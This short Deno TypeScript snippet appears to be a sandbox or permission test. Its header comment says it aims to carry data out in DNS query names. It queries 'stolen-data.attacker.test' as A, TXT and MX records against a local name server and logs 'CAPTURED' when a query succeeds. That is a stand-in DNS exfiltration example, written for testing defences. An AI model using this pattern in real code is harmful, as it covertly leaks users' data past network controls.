//= wants: to carry data out in names that a name server of its choice is asked for
const nameServer = { ipAddr: "127.0.0.1", port: @udp@ };
const asking = ["A", "TXT", "MX"].map((type) =>
  Deno.resolveDns("stolen-data.attacker.test", type as "A", { nameServer, signal: AbortSignal.timeout(500) })
    .then(() => console.log("CAPTURED"), () => {})
);
await Promise.all(asking);
